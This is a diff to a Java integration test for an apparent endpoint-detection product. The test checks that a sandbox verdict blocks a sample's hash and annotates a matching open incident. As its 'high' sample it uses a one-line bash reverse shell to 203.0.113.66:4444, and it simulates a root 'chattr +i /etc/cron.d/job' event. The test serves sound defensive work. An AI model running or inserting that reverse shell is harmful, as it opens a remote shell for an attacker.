@@ -1,11 +1,20 @@
 package dev.kiroku.it;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.kiroku.event.EntityIds;
+import dev.kiroku.event.Event;
+import dev.kiroku.event.ProcessInfo;
+import dev.kiroku.event.ProcessStart;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
 
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
+import java.security.MessageDigest;
+import java.time.Instant;
+import java.util.HexFormat;
+import java.util.List;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.concurrent.TimeUnit;
@@ -17,7 +26,8 @@ import static org.awaitility.Awaitility.await;
  * The sandbox in the real server with the real agent recording the machine (as {@code ./kiroku demo}
  * runs it): samples submitted over REST are detonated and recorded by that agent (no second agent),
  * a high verdict puts the hash on the fleet block list and raises an alert, a medium verdict raises
- * an alert and blocks nothing. Needs root.
+ * an alert and blocks nothing; an open incident whose alert names the high sample's hash gets the verdict as a note
+ * and the block as an action. Needs root.
  */
 @Timeout(value = 15, unit = TimeUnit.MINUTES)
 class SandboxLoopTest {
@@ -28,7 +38,9 @@ class SandboxLoopTest {
     void verdictsReachTheBlockListAndTheAnalyst() throws Exception {
         try (RecordingMachine machine = new RecordingMachine(dir.resolve("data"), Files.createDirectories(dir.resolve("watched")))) {
             Api api = machine.api;
-            JsonNode high = analyse(api, "revshell.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n");
+            String revshell = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n";
+            String incident = openIncidentNaming(machine, sha256(revshell));
+            JsonNode high = analyse(api, "revshell.sh", revshell);
             assertThat(high.path("verdict").asText()).as(high.toString()).isEqualToIgnoringCase("high");
             JsonNode detonation = high.path("detonation");
             assertThat(detonation.path("recording").asText()).startsWith("the kiroku agent already recording this machine")
@@ -48,7 +60,33 @@ class SandboxLoopTest {
             });
             String blocked = api.get("/api/v1/blocklist").toString();
             assertThat(blocked).contains(highHash).contains("sandbox verdict high").doesNotContain(mediumHash);
+            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(api.get("/api/v1/incidents/" + incident).toString())
+                    .as("the open incident whose alert names the hash is marked").contains("sandbox").contains("block_hash"));
         }
+    }
+
+    /**
+     * An alert about a process whose executable has the given hash (an event through the server's real ingest and
+     * detection, from another endpoint), grouped into an open incident; returns the incident's id.
+     */
+    private static String openIncidentNaming(RecordingMachine machine, String sha256) throws Exception {
+        ProcessInfo chattr = new ProcessInfo(EntityIds.process("it-suspect-host", 4242, 42), 4242, Instant.now(), null,
+                "/usr/bin/chattr", List.of("chattr", "+i", "/etc/cron.d/job"), "/root", sha256,
+                new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
+        machine.server.ingest().deliver(List.of(new Event("it-suspect-host", 1, Instant.now(), "suspect", List.of(),
+                new ProcessStart(chattr, false))));
+        return await().atMost(Duration.ofSeconds(60)).until(() -> {
+            for (JsonNode incident : machine.api.get("/api/v1/incidents").path("incidents")) {
+                if (machine.api.get("/api/v1/incidents/" + incident.path("id").asText()).toString().contains(sha256)) {
+                    return incident.path("id").asText();
+                }
+            }
+            return null;
+        }, id -> id != null);
+    }
+
+    private static String sha256(String content) throws Exception {
+        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content.getBytes(StandardCharsets.UTF_8)));
     }
 
     /** Submits over REST and waits for the report. */
